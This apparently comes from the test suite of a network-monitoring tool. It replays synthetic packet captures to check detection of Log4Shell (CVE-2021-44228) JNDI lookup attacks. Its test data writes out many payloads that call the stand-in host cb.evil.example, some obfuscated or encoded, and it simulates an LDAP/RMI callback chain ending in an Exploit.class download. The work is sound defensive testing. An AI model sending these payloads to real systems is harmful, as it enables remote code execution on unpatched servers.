"""Captures built here (scapy), replayed through the real reader, engine and detectors: every
obfuscation and scheme is caught in whatever segments TCP cuts it, and look-alikes are not."""

from __future__ import annotations

import base64

import pytest

from kubectl_netmon.output.escape import escape
from tests.detect import wire
from tests.detect.cases import OBFUSCATED, SCHEMES
from tests.detect.pcapgen import Capture
from tests.detect.replay import replay

# Every behaviour here holds on the compiled common case and on the Python reference alike.
pytestmark = pytest.mark.usefixtures("speedups_off")

ATTACKER, VICTIM, MAVEN = "203.0.113.7", "10.0.0.5", "151.101.0.209"
OK = wire.http_ok(b"<html>ok</html>", "text/html")


def http(headers: str = "", uri: str = "/", body: bytes = b"", method: str = "GET",
         content_type: str = "application/x-www-form-urlencoded") -> bytes:
    head = f"{method} {uri} HTTP/1.1\r\nHost: shop.example\r\n{headers}"
    if body:
        head += f"Content-Type: {content_type}\r\nContent-Length: {len(body)}\r\n"
    return head.encode("utf-8") + b"\r\n" + body


def attack(tmp_path, request: bytes, response: bytes = OK, mss: int = 13):
    path = Capture().tcp(ATTACKER, VICTIM, 40000, 8080, [(True, request), (False, response)],
                         mss=mss).write(tmp_path / "attack.pcap")
    return replay(path)


def notes(notices) -> list[str]:
    return [n.note.split("::")[1] for n in notices]


@pytest.mark.parametrize(("payload", "normalised"), [(p, n) for p, n, *_ in OBFUSCATED])
def test_obfuscated_lookup_in_a_segmented_header_is_caught(tmp_path, payload, normalised):
    notices = attack(tmp_path, http(f"X-Api-Version: {payload}\r\n"))
    assert notes(notices) == ["LOG4J_ATTEMPT_HEADER"]
    assert f"normalised='{escape(normalised)}'" in notices[0].sub


@pytest.mark.parametrize(("payload", "host", "port"), [(p, h, pt) for p, _, _, h, pt in OBFUSCATED])
def test_obfuscated_lookup_in_a_raw_tcp_stream_is_attempt_other(tmp_path, payload, host, port):
    data = b"LOGIN user=" + payload.encode("utf-8") + b" pass=x\n"
    path = Capture().tcp(ATTACKER, VICTIM, 40000, 7777, [(True, data), (False, b"NO\n")],
                         mss=7).write(tmp_path / "raw.pcap")
    notices = replay(path)
    assert notes(notices) == ["LOG4J_ATTEMPT_OTHER"]
    assert (notices[0].extra["lookup.port"], notices[0].resp_p) == (port, 7777)


@pytest.mark.parametrize(("scheme", "port"), SCHEMES)
def test_every_scheme_in_a_udp_datagram_is_attempt_other(tmp_path, scheme, port):
    data = f"<14>sshd: invalid user ${{jndi:{scheme}://cb.evil.example/o}}".encode()
    path = Capture().udp(ATTACKER, VICTIM, 5140, 514, [(True, data)]).write(tmp_path / "u.pcap")
    notices = replay(path)
    assert notes(notices) == ["LOG4J_ATTEMPT_OTHER"]
    assert (notices[0].extra["lookup.scheme"], notices[0].extra["lookup.port"]) == (scheme, port)


def test_lookup_in_a_dns_query_name_is_caught_with_its_host(tmp_path):
    query = wire.dns_query("${jndi:ldap://cb.evil.example:1389/a}")
    path = Capture().udp(ATTACKER, VICTIM, 5353, 53, [(True, query)]).write(tmp_path / "d.pcap")
    [notice] = replay(path)
    assert (notice.note, notice.extra["lookup.host"], notice.extra["lookup.port"]) == (
        "CVE_2021_44228::LOG4J_ATTEMPT_OTHER", "cb.evil.example", 1389)


@pytest.mark.parametrize(("scheme", "port"), SCHEMES)
def test_every_scheme_in_a_header_names_host_and_port(tmp_path, scheme, port):
    notices = attack(tmp_path, http(f"Referer: ${{jndi:{scheme}://cb.evil.example/o}}\r\n"))
    assert (notices[0].extra["lookup.host"], notices[0].extra["lookup.port"]) == (
        "cb.evil.example", port)


@pytest.mark.parametrize("uri", [
    "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fcb.evil.example%2Fa%7D",
    "/?q=%2524%257Bjndi%253Aldap%253A%252F%252Fcb.evil.example%252Fa%257D",
    "/${jndi:ldap://cb.evil.example/a}",
])
def test_url_encoded_lookup_in_the_uri_is_attempt_uri(tmp_path, uri):
    assert notes(attack(tmp_path, http(uri=uri))) == ["LOG4J_ATTEMPT_URI"]


@pytest.mark.parametrize(("body", "content_type"), [
    (b"user=%24%7Bjndi%3Aldap%3A%2F%2Fcb.evil.example%2Fa%7D&p=1",
     "application/x-www-form-urlencoded"),
    (b"user=%2524%257Bjndi%253Aldap%253A%252F%252Fcb.evil.example%252Fa%257D",
     "application/x-www-form-urlencoded"),
    (b'{"user": "\\u0024\\u007bjndi:ldap://cb.evil.example/a}"}', "application/json"),
    (b"<u>${${lower:j}ndi:ldap://cb.evil.example/a}</u>", "application/xml"),
])
def test_encoded_lookup_in_the_body_is_attempt_body(tmp_path, body, content_type):
    notices = attack(tmp_path, http(method="POST", body=body, content_type=content_type))
    assert notes(notices) == ["LOG4J_ATTEMPT_BODY"]


def test_lookup_in_basic_auth_credentials_is_attempt_header(tmp_path):
    token = base64.b64encode(b"admin:${jndi:ldap://cb.evil.example/a}").decode()
    notices = attack(tmp_path, http(f"Authorization: Basic {token}\r\n"))
    assert notes(notices) == ["LOG4J_ATTEMPT_HEADER"]


def test_ldap_chain_is_one_chain_of_four_stages(tmp_path):
    cap = Capture().tcp(ATTACKER, VICTIM, 40000, 8080, [
        (True, http("User-Agent: ${jndi:ldap://203.0.113.7:1389/a}\r\n")), (False, OK)])
    cap.tcp(VICTIM, ATTACKER, 40001, 1389, [
        (True, wire.bind_request()), (False, wire.bind_response()),
        (True, wire.search_request()), (False, wire.java_reference_entry() + wire.search_done())],
        mss=9)
    cap.tcp(VICTIM, ATTACKER, 40002, 8000, [
        (True, wire.http_get("/Exploit.class", "203.0.113.7:8000", "Java/1.8.0_181")),
        (False, wire.http_ok(wire.CLASS_FILE, "application/java-vm"))])
    notices = replay(cap.write(tmp_path / "chain.pcap"))
    assert sorted(notes(notices)) == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK",
                                      "LOG4J_JAVA_CLASS_DOWNLOAD", "LOG4J_LDAP_JAVA"]
    assert len({n.extra["chain"] for n in notices}) == 1


def test_rmi_chain_raises_callback_and_rmi_java(tmp_path):
    cap = Capture().tcp(ATTACKER, VICTIM, 40000, 8080, [
        (True, http("User-Agent: ${jndi:rmi://203.0.113.7:1099/a}\r\n")), (False, OK)])
    cap.tcp(VICTIM, ATTACKER, 40001, 1099, [
        (True, wire.JRMI_HELLO), (False, wire.JRMI_ACK), (True, wire.JRMI_CALL),
        (False, wire.JRMI_RETURN)], mss=3)
    notices = replay(cap.write(tmp_path / "rmi.pcap"))
    assert sorted(notes(notices)) == ["LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK", "LOG4J_RMI_JAVA"]


BENIGN = {
    "shell script": [(True, http(uri="/install.sh")), (False, wire.http_ok(
        b'#!/bin/sh\nexport PATH="${HOME}/bin:${PATH}"\necho "${USER:-nobody}"\n',
        "text/x-shellscript"))],
    "template": [(True, http(uri="/mail.tpl")), (False, wire.http_ok(
        b"Dear ${user.name}, your ${order.id} (${date:yyyy-MM-dd}) has shipped.",
        "text/plain"))],
    "json": [(True, http(method="POST", uri="/api", content_type="application/json",
                         body=b'{"price": "$", "currency": {"sym": "${"}, "x": "}"}')),
             (False, wire.http_ok(b'{"ok": {}, "$": "${}"}', "application/json"))],
    "binary": [(True, http(uri="/blob.bin")), (False, wire.http_ok(
        bytes(range(256)) * 4 + b"\x00jndi\xff${\x01jndi:ldap\x02}" + bytes(range(256)) * 4,
        "application/octet-stream"))],
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_look_alikes_raise_nothing(tmp_path, case):
    path = Capture().tcp(VICTIM, "10.0.0.8", 40000, 80, BENIGN[case], mss=11).write(
        tmp_path / "benign.pcap")
    assert replay(path) == []


def test_java_fetching_a_jar_from_maven_with_no_earlier_lookup_raises_nothing(tmp_path):
    jar = b"PK\x03\x04\x14\x00\x08\x08\x08\x00" + b"META-INF/MANIFEST.MF" + bytes(500)
    path = Capture().tcp(VICTIM, MAVEN, 40000, 80, [
        (True, wire.http_get("/maven2/org/apache/logging/log4j/log4j-core/2.17.1/"
                             "log4j-core-2.17.1.jar", "repo1.maven.org", "Java/11.0.16")),
        (False, wire.http_ok(jar, "application/java-archive"))]).write(tmp_path / "maven.pcap")
    assert replay(path) == []
